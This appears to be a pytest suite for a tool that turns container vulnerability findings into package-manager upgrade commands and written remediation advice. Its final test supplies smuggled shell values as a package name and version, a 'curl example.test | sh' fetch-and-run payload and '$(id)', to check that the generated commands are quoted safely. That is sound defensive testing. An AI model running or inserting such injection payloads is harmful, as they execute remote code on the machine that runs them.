from __future__ import annotations

import shlex
from dataclasses import replace

import pytest

from pratique.matching.remediation import cause_of, remedy_of
from pratique.ports.findings import PlacedLayer, StoredPackage

LAYER = PlacedLayer("sha256:" + "a" * 64, 1, "RUN pip install")


def package(
    kind: str, name: str, version: str, fixed: str, *, ecosystem: str = "", state: str = "fixed"
) -> StoredPackage:
    return StoredPackage(
        ecosystem=ecosystem or kind,
        type=kind,
        name=name,
        version=version,
        purl="",
        source_name="",
        fixed_version=fixed,
        fix_state=state,
        path="app/place",
        layer=LAYER,
        range=f"< {fixed}" if fixed else "every version",
        advisory="ADV-1",
        source="osv/Test",
    )


COMMANDS = [
    ("deb", "libssl3", "3.0.11-1", "3.0.15-1", "", "apt-get update && apt-get install --only-upgrade -y libssl3"),
    ("apk", "openssl", "3.1.0-r0", "3.1.4-r1", "", "apk add --no-cache --upgrade 'openssl>=3.1.4-r1'"),
    ("rpm", "openssl", "1:3.0.7-1", "1:3.0.7-27", "AlmaLinux:9", "dnf upgrade -y openssl"),
    ("rpm", "openssl", "3.0.7-1", "3.0.7-27", "SUSE:Linux", "zypper --non-interactive update openssl"),
    ("rpm", "openssl", "3.0.7-1", "3.0.7-27", "Azure Linux:3", "tdnf update -y openssl"),
    ("pypi", "Django", "3.2", "3.2.25", "", "pip install --upgrade 'Django>=3.2.25'"),
    ("npm", "@scope/name", "1.0.0", "1.0.1", "", "npm install @scope/name@1.0.1"),
    ("gem", "rack", "2.0", "2.2.3", "", "gem install rack --version '>= 2.2.3'"),
    ("composer", "a/b", "1.0", "1.2", "", "composer update a/b --with 'a/b:>=1.2'"),
    ("golang", "golang.org/x/net", "v0.1.0", "v0.17.0", "", "go get golang.org/x/net@v0.17.0"),
    ("cargo", "openssl", "0.10.1", "0.10.55", "", "cargo update --package openssl --precise 0.10.55"),
    ("nuget", "Newtonsoft.Json", "12.0", "13.0.1", "", "dotnet add package Newtonsoft.Json --version 13.0.1"),
    ("hex", "plug", "1.0.0", "1.0.4", "", "mix deps.update plug"),
]


@pytest.mark.parametrize(("kind", "name", "version", "fixed", "ecosystem", "command"), COMMANDS)
def test_remedy_is_a_command_of_the_package_manager(
    kind: str, name: str, version: str, fixed: str, ecosystem: str, command: str
) -> None:
    remedy = remedy_of([package(kind, name, version, fixed, ecosystem=ecosystem)])
    assert remedy.command == command
    assert remedy.instead == ""
    assert remedy.caution


def test_packages_of_one_manager_are_mended_by_one_command() -> None:
    remedy = remedy_of([package("deb", name, "1", "2") for name in ("libcurl4", "curl", "curl")])
    assert remedy.command == "apt-get update && apt-get install --only-upgrade -y libcurl4 curl"


def test_package_without_a_command_says_what_to_do_by_hand() -> None:
    log4j = remedy_of([package("maven", "org.example:core", "2.14.0", "2.17.1")])
    assert log4j.command == ""
    assert log4j.instead == "Set the version of org.example:core to 2.17.1 or later in pom.xml or build.gradle."
    stdlib = remedy_of([package("golang", "stdlib", "1.19", "1.19.4")])
    assert stdlib.instead == "Build /app/place again with Go 1.19.4 or later."
    known = remedy_of([package("generic", "redis", "6.0", "6.0.16")])
    assert known.instead == "Replace redis 6.0 at /app/place with 6.0.16 or later."


@pytest.mark.parametrize(
    ("state", "sentence"),
    [
        ("not_fixed", "No fixed version of zlib1g exists yet, osv/Test says: remove it or limit who can reach it."),
        ("will_not_fix", "osv/Test will not fix zlib1g in this release: remove it, or move to a later release."),
        (
            "unknown",
            "osv/Test names no fixed version of zlib1g: remove it or limit who can reach it, and look again later.",
        ),
    ],
)
def test_package_without_a_fix_says_so_and_who_says_it(state: str, sentence: str) -> None:
    remedy = remedy_of([package("deb", "zlib1g", "1", "", state=state)])
    assert (remedy.command, remedy.instead) == ("", sentence)
    assert remedy.caution


def test_finding_that_is_fixed_in_part_has_a_command_and_says_the_rest() -> None:
    remedy = remedy_of([package("deb", "curl", "1", "2"), package("deb", "zlib1g", "1", "", state="not_fixed")])
    assert remedy.command.endswith(" curl")
    assert "zlib1g" in remedy.instead
    assert "curl" not in remedy.instead


def test_step_to_another_major_version_is_cautioned() -> None:
    assert "another major version" in remedy_of([package("npm", "axios", "0.18.0", "1.6.0")]).caution
    assert "another major version" not in remedy_of([package("deb", "zlib1g", "1:1.2", "1:1.3")]).caution


def test_cause_tells_versions_advisory_and_source() -> None:
    affected = replace(package("deb", "libssl3", "3.0.11-1", "3.0.15-1"), source_name="openssl")
    assert cause_of(affected) == (
        "libssl3 3.0.11-1 is below 3.0.15-1, in which it is fixed, as ADV-1 of osv/Test says of openssl."
    )
    assert cause_of(package("deb", "zlib1g", "1", "")) == (
        "zlib1g 1 is affected: every version is, as ADV-1 of osv/Test says of zlib1g."
    )


@pytest.mark.parametrize(("kind", "ecosystem"), [(kind, ecosystem) for kind, _, _, _, ecosystem, _ in COMMANDS])
def test_command_is_safe_to_paste_whatever_an_image_calls_its_packages(kind: str, ecosystem: str) -> None:
    command = remedy_of([package(kind, "a; curl example.test | sh #", "1", "2 $(id)", ecosystem=ecosystem)]).command
    words = shlex.split(command, comments=True)
    assert any("a; curl example.test | sh #" in word for word in words)
    assert not [word for word in words if word in {";", "|", "sh", "curl"}]
